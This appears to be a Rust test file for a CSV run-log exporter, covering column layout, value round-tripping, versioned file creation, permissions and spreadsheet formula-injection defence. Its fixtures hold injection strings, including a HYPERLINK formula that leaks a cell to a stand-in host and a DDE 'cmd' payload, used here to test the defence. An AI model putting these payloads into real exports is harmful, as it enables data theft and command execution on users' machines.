//! Promise: a run log has fixed columns, and any reader of CSV gets every value back. A run log is complete or does not
//! exist, and is never overwritten. No spreadsheet takes a text in it for a formula.

use crate::common;
use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::Path;
use std::thread;

use crate::production::{execution, production, usd};
use proptest::prelude::*;
use runledger::export::csv::{self, COLUMNS};
use runledger::metrics::{CostTier, Kind, QcOutcome, Status, run_log_columns};
use runledger::{Error, ErrorKind, ExecutionMetrics, LedgerReader};

fn text(records: &[ExecutionMetrics]) -> String {
    let mut out = Vec::new();
    let written = csv::write(records.iter().cloned().map(Ok), &mut out).unwrap();
    assert_eq!((written.rows, written.skipped.count()), (records.len() as u64, 0));
    String::from_utf8(out).unwrap()
}

/// Returns the cells of each row, read by another CSV reader, without the header.
fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = ::csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().unwrap(), COLUMNS.as_slice());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn cell(record: &ExecutionMetrics, column: &str) -> String {
    let at = COLUMNS.iter().position(|&name| name == column).unwrap();
    rows(&text(std::slice::from_ref(record))).remove(0).remove(at)
}

#[test]
fn the_columns_have_fixed_names_and_order() {
    let header = "run_id,parent_run_id,timestamp,skill_name,scene_id,shot_id,model_used,tier,estimated_cost,actual_cost,\
                duration_s,outcome,regen_count,artifact_output,notes\r\n";
    assert_eq!(text(&[]), header);
}

#[test]
fn each_column_is_the_key_of_a_record_in_which_its_value_is_read_back() {
    let full = samples().remove(0);
    let row = rows(&text(std::slice::from_ref(&full))).remove(0);
    let record: serde_json::Value = serde_json::from_str(&full.to_json().unwrap()).unwrap();
    for ((column, key), cell) in run_log_columns().iter().zip(row) {
        let value = key.split('.').fold(&record, |value, key| &value[key]);
        let value = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        // A number may have other digits in the JSON than in the cell, such as 1e-8.
        let same = value == cell || value.parse::<f64>().ok() == Some(cell.parse().unwrap_or(f64::NAN));
        assert!(same, "{column}: {key} is {value}, and the cell is {cell}");
    }
    assert_eq!(run_log_columns().map(|(column, _)| column), COLUMNS);
}

/// Returns a record with all columns, one with as few as possible, and one whose texts look like formulas.
fn samples() -> Vec<ExecutionMetrics> {
    let mut full = execution(1, 0);
    full.run.parent_run_id = Some("run-0".into());
    full.skill_name = "video-generator".into();
    full.kind = Kind::Generation;
    full.model.name = Some("video-1".into());
    full.model.tier = Some("premium".into());
    full.cost.estimated_usd = usd("0.75");
    full.cost_usd = usd("0.00000001");
    let production = &mut full.production;
    production.scene_id = Some("scene 1".into());
    production.shot_id = Some("shot 2".into());
    production.duration_s = Some(5.5);
    production.regen_count = Some(0);
    production.outcome = Some(QcOutcome::Fix);
    production.artifact = Some("shot2_v003.mp4".into());
    production.notes = Some("two hands, \"one\" too many\r\nsecond line".into());

    let mut empty = execution(2, 1);
    empty.run.run_id = None;
    empty.wall_clock_time_ms = None;
    empty.set_status(Status::Interrupted);

    let mut formulas = execution(3, 2);
    formulas.skill_name = "=HYPERLINK(\"http://x/\"&A1)".into();
    formulas.production.scene_id = Some("+1".into());
    formulas.production.shot_id = Some("-1".into());
    formulas.production.artifact = Some("@SUM(A1)".into());
    formulas.model.name = Some("  =1".into());
    formulas.production.notes = Some("a;=1\tb\n- c'd\n'quoted'; 2-1=1".into());
    vec![full, empty, formulas]
}

#[test]
fn a_run_log_is_the_golden_file() {
    assert_eq!(text(&samples()), include_str!("../data/RUN_LOG_v001.csv"));
}

#[test]
fn unknown_is_an_empty_cell_unlike_an_empty_text() {
    let mut record = execution(1, 0);
    record.run.run_id = None;
    record.wall_clock_time_ms = None;
    record.skill_name = "s".into();
    record.set_status(Status::Paused);
    let row = |record: &ExecutionMetrics| text(std::slice::from_ref(record)).lines().nth(1).unwrap().to_owned();
    assert_eq!(row(&record), ",,2026-11-20T12:00:00.000Z,s,,,,,,,,,,,");
    record.timestamp_start = "2026-11-20T12:00:00.123456Z".parse().unwrap();
    assert_eq!(row(&record), ",,2026-11-20T12:00:00.123456Z,s,,,,,,,,,,,");
    record.timestamp_start = "2026-11-20T12:00:00Z".parse().unwrap();
    record.cost_usd = usd("0");
    record.production.regen_count = Some(0);
    record.production.notes = Some(String::new());
    assert_eq!(row(&record), ",,2026-11-20T12:00:00.000Z,s,,,,,,0,,,0,,\"\"");
}

#[test]
fn the_tier_is_the_routers_or_else_that_of_the_price() {
    let mut record = execution(1, 0);
    assert_eq!(cell(&record, "tier"), "");
    record.cost_tier = Some(CostTier::Unknown);
    assert_eq!(cell(&record, "tier"), "");
    record.cost_tier = Some(CostTier::Premium);
    assert_eq!(cell(&record, "tier"), "Premium");
    record.model.tier = Some("draft".into());
    assert_eq!(cell(&record, "tier"), "draft");
}

#[test]
fn the_duration_is_of_what_was_generated_or_of_the_execution() {
    let mut record = execution(1, 0);
    assert_eq!(cell(&record, "duration_s"), "1.500");
    record.wall_clock_time_ms = Some(u64::MAX);
    assert_eq!(cell(&record, "duration_s"), "18446744073709551.615");
    // The duration of the generation is not the length of the clip.
    record.kind = Kind::Generation;
    assert_eq!(cell(&record, "duration_s"), "");
    record.production.duration_s = Some(0.1);
    assert_eq!(cell(&record, "duration_s"), "0.1");
}

#[test]
fn the_outcome_is_the_verdict_or_else_that_of_the_execution() {
    let outcome = |status: Status, kind: Kind, verdict: Option<&str>| {
        let mut record = execution(1, 0);
        record.set_status(status);
        record.kind = kind;
        record.production.outcome = verdict.map(QcOutcome::from);
        cell(&record, "outcome")
    };
    assert_eq!(outcome(Status::Success, Kind::Skill, None), "PASS");
    assert_eq!(outcome(Status::Cancelled, Kind::Generation, None), "FAIL");
    assert_eq!(outcome(Status::Interrupted, Kind::Skill, None), "");
    assert_eq!(outcome(Status::Success, Kind::Qc, None), "");
    assert_eq!(outcome(Status::Success, Kind::Qc, Some("FIX")), "FIX");
    assert_eq!(outcome(Status::Success, Kind::Skill, Some("of a newer writer")), "of a newer writer");
}

#[test]
fn lines_that_are_not_records_are_counted_and_other_errors_end_it() {
    let lines = [execution(1, 0).to_json().unwrap(), "torn".to_owned()];
    let records = lines.iter().map(|line| ExecutionMetrics::from_json(line));
    let written = csv::write(records, &mut Vec::new()).unwrap();
    assert_eq!((written.rows, written.skipped.count()), (1, 1));

    let directory = tempfile::tempdir().unwrap();
    let absent: Error = LedgerReader::open(directory.path().join("absent.jsonl")).unwrap_err();
    let error = csv::create([Ok(execution(1, 0)), Err(absent)], directory.path()).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Io);
    assert_eq!(names(directory.path()), BTreeSet::new());
}

/// Records whose texts have many characters that could break a row or begin a formula.
fn nasty() -> impl Strategy<Value = ExecutionMetrics> {
    let pieces = vec![
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＠",
        "'",
        "\"",
        ",",
        ";",
        "\t",
        "\r",
        "\n",
        "\r\n",
        " ",
        "\u{a0}",
        "\u{2028}",
        "a",
        "é",
        "1",
        "|",
        "`",
        "\0",
        "\u{1b}[2J",
        "\u{7f}",
        "\u{9b}",
        "\u{feff}",
        "cmd|'/c calc'!A0",
    ];
    let text = || {
        let pieces = prop::collection::vec(prop::sample::select(pieces.clone()), 0..10).prop_map(|all| all.concat());
        prop_oneof![pieces, common::text()]
    };
    (common::record(), [text(), text(), text()]).prop_map(|(mut record, [name, notes, artifact])| {
        record.skill_name = name;
        record.production.notes = Some(notes);
        record.production.artifact = Some(artifact);
        record
    })
}

/// Removes the marks from a cell, as a reader does.
fn unmarked(cell: &str) -> String {
    cell.split_inclusive([';', '\t', '\r', '\n']).map(|part| part.strip_prefix('\'').unwrap_or(part)).collect()
}

/// Replaces control characters by their pictures, or by U+FFFD like those that change the direction of writing.
fn pictured(text: &str) -> String {
    let picture = |c: char| match c {
        '\t' | '\r' | '\n' => c,
        '\u{7f}' => '␡',
        c if c < ' ' => "␀␁␂␃␄␅␆␇␈␉␊␋␌␍␎␏␐␑␒␓␔␕␖␗␘␙␚␛␜␝␞␟".chars().nth(c as usize).unwrap(),
        '\u{80}'..='\u{9f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => '\u{fffd}',
        c => c,
    };
    text.chars().map(picture).collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn another_reader_gets_every_value_back(records in prop::collection::vec(nasty(), 1..4)) {
        let text = text(&records);
        let rows = rows(&text);
        prop_assert_eq!(rows.len(), records.len());
        for (record, row) in records.iter().zip(&rows) {
            let (run, production) = (&record.run, &record.production);
            let texts = [
                (0, &run.run_id),
                (1, &run.parent_run_id),
                (3, &Some(record.skill_name.clone())),
                (4, &production.scene_id),
                (5, &production.shot_id),
                (6, &record.model.name),
                (13, &production.artifact),
                (14, &production.notes),
            ];
            for (at, text) in texts {
                prop_assert_eq!(unmarked(&row[at]), pictured(text.as_deref().unwrap_or_default()));
            }
            prop_assert_eq!(row[2].parse().ok(), Some(record.timestamp_start));
            prop_assert_eq!(row[8].parse().ok(), record.cost.estimated_usd);
            prop_assert_eq!(row[9].parse().ok(), record.cost_usd);
            if let Some(seconds) = production.duration_s {
                prop_assert_eq!(row[10].parse::<f64>().unwrap().to_bits(), seconds.to_bits());
            }
            prop_assert_eq!(row[12].parse().ok(), production.regen_count);
        }
    }

    /// Wherever a spreadsheet ends a cell, the next one does not begin with a formula.
    #[test]
    fn no_text_begins_a_formula(record in nasty()) {
        for (at, cell) in rows(&text(&[record]))[0].iter().enumerate() {
            let number = [2, 8, 9, 10, 12].contains(&at);
            let mut parts = cell.split([';', '\t', '\r', '\n']);
            prop_assert!(number || parts.all(|part| !part.trim_start().starts_with(['=', '+', '-', '@', '＝', '＠'])), "{cell:?}");
            prop_assert!(!cell.contains(|c: char| c.is_control() && !"\t\r\n".contains(c)), "{cell:?}");
        }
    }
}

#[test]
fn a_long_text_takes_a_time_that_grows_with_it_alone() {
    let mut record = execution(1, 0);
    record.production.notes = Some(["\n"; 2_000_000].concat());
    assert_eq!(text(&[record]).len(), text(&[execution(1, 0)]).len() + 2_000_002);
}

fn names(directory: &Path) -> BTreeSet<String> {
    fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect()
}

fn create(directory: &Path) -> String {
    let (path, _) = csv::create(production().into_iter().map(Ok), directory).unwrap();
    assert_eq!(fs::read_to_string(&path).unwrap(), text(&production()));
    path.strip_prefix(directory).unwrap().to_str().unwrap().to_owned()
}

#[test]
fn each_run_log_takes_the_next_number_and_overwrites_none() {
    let place = tempfile::tempdir().unwrap();
    let directory = place.path().join("made/on the way");
    assert_eq!(create(&directory), "RUN_LOG_v001.csv");
    fs::write(directory.join("RUN_LOG_v002.csv"), "somebody's").unwrap();
    assert_eq!(create(&directory), "RUN_LOG_v003.csv");
    fs::write(directory.join("RUN_LOG_v999.csv"), "").unwrap();
    assert_eq!(create(&directory), "RUN_LOG_v1000.csv");
    assert_eq!(fs::read_to_string(directory.join("RUN_LOG_v002.csv")).unwrap(), "somebody's");
    assert_eq!(names(&directory).len(), 5);
}

#[test]
fn a_run_log_is_for_its_user_alone() {
    let place = tempfile::tempdir().unwrap();
    let directory = place.path().join("logs");
    let file = directory.join(create(&directory));
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&file), mode(&directory)), (0o600, 0o700));
}

#[test]
fn threads_that_write_at_once_get_each_its_own_number() {
    let place = tempfile::tempdir().unwrap();
    let numbers: BTreeSet<_> = thread::scope(|scope| {
        let each = |_| scope.spawn(|| (0..5).map(|_| create(place.path())).collect::<Vec<_>>());
        let threads: Vec<_> = (0..8).map(each).collect();
        threads.into_iter().flat_map(|thread| thread.join().unwrap()).collect()
    });
    let expected: BTreeSet<_> = (1..=40).map(|number| format!("RUN_LOG_v{number:03}.csv")).collect();
    assert_eq!((&numbers, names(place.path())), (&expected, expected.clone()));
}

/// A panic leaves the same files as a process that dies while it writes.
#[test]
fn a_process_that_dies_leaves_no_partial_run_log() {
    let place = tempfile::tempdir().unwrap();
    let dying = (0..).map(|n| {
        assert!(n < 5000, "dies");
        Ok(execution(n, 0))
    });
    catch_unwind(AssertUnwindSafe(|| csv::create(dying, place.path()))).unwrap_err();
    assert_eq!(names(place.path()), BTreeSet::from(["RUN_LOG_v.part-1".to_owned()]));
    assert_eq!(create(place.path()), "RUN_LOG_v001.csv");
    assert_eq!(names(place.path()).len(), 2);
}

#[test]
fn a_directory_that_cannot_be_created_is_named() {
    let place = tempfile::tempdir().unwrap();
    fs::write(place.path().join("file"), "").unwrap();
    let error = csv::create([], place.path().join("file/logs")).unwrap_err();
    assert!(error.to_string().starts_with("cannot create a directory: "), "{error}");
    assert_eq!(error.file(), Some(place.path().join("file/logs").as_path()));
}
